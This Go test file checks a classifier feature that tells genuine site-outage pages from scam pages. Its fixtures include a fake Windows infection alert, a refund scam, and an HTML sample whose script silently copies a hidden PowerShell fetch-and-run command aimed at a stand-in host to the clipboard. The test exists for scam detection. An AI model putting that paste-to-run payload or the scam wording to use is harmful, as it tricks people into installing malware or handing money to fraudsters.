package features

import "testing"

// TestOwnOutage: a site's own error page asking to try again later is a
// voice sign; a fake alert with an error code gets none (ownoutage.go).
func TestOwnOutage(t *testing.T) {
	e, err := New(nil)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, html string
		want       float64 // negative.own-outage
	}{
		{"an airline's system error, a sound added",
			`<h1>システムエラー</h1><p>申し訳ございません。ただいまシステムエラーが発生しました。エラーコード： E-500-0031</p><p>しばらく時間をおいてから、もう一度お試しください。</p><p>予約・案内センター 0570-000-555 お問い合わせの際は、上記のエラーコードをお伝えください。</p><audio autoplay src="chime.mp3"></audio>`, 1},
		{"in English", `<h1>Something went wrong</h1><p>Error code 503. The service is temporarily unavailable. Please try again later or call 1-800-555-0101.</p>`, 1},
		{"a fake alert: the reader's device has the error",
			`<title>Windows Error</title><h1>Your computer is infected</h1><p>Error code 0x80070424. Your PC is blocked. Call 1-800-555-0112 now. Try again later will not fix it.</p>`, 0},
		{"a fake error that asks for a paste",
			`<h1>Something went wrong</h1><p>Please try again later, or fix it now: press Win+R, paste the command and press Enter.</p><script>navigator.clipboard.writeText("powershell -w hidden iwr x.example.invalid|iex")</script>`, 0},
		{"a warning in passing about refund callers", `<h1>システムエラー</h1><p>しばらく時間をおいてから、もう一度お試しください。エラーコード： E-500</p><p>当社を名乗り「返金します」と電話で案内する詐欺にご注意ください。</p>`, 1},
		{"a refund scam that says try again later", `<h1>Refund department</h1><p>You are owed a refund of $399. Your refund is pending. Call 1-800-555-0144 to receive your refund now. Refund processing: refund team. If the line is busy, try again later.</p>`, 0},
		{"no retry words", `<h1>システムエラー</h1><p>エラーコード： E-500 が発生しました。0570-000-555 へお電話ください。</p>`, 0},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := extract(t, e, "https://x.example.top/", tc.html)
			if got["negative.own-outage"] != tc.want {
				t.Errorf("negative.own-outage = %v, want %v (features %v)", got["negative.own-outage"], tc.want, got)
			}
		})
	}
}
